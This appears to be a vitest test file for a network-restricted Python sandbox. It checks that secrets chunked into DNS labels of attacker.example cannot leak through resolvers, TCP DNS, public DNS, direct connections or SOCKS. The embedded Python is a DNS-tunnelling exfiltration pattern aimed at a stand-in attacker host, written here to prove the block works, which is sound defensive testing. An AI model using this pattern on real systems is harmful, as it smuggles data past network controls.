import { expect, test } from 'vitest'
import { python } from './gated.ts'
import { Hosted, rules } from './hosted.ts'
import { WAYS } from './ways.ts'

/** A question for a name carries what is in its labels to whoever answers for the domain. */
test('what stands in the labels of names that no rule allows leaves by no way, and is asked of nobody', async () => {
  await using hosted = await Hosted.open(rules(['good.example']))
  const code = python`
import base64
secret = base64.b32encode(os.urandom(2000)).decode().lower().rstrip('=')
pieces = [secret[at:at + 60] for at in range(0, len(secret), 60)]
codes = set()
for piece in pieces:
    name = f'{piece}.attacker.example'
    codes.add(resolve(name.encode()))
    codes.add(over_tcp(name.encode()))
    codes.add(resolve(name.encode(), '8.8.8.8'))
    codes.add(connect(name, 443))
    codes.add(socks(b'\x03', bytes([len(name)]) + name.encode(), 443))
    codes.add(resolve(f'{piece}.good.example'.encode()))
print(len(pieces), sorted(map(str, codes)))
print(resolve(b'good.example'))
`
  expect(await hosted.python(WAYS + code)).toBe("54 ['3', 'HTTP/1.1 403 Forbidden', 'reply 2']\n0\n")
  expect(new Set(hosted.lookedUp)).toEqual(new Set(['good.example']))
})
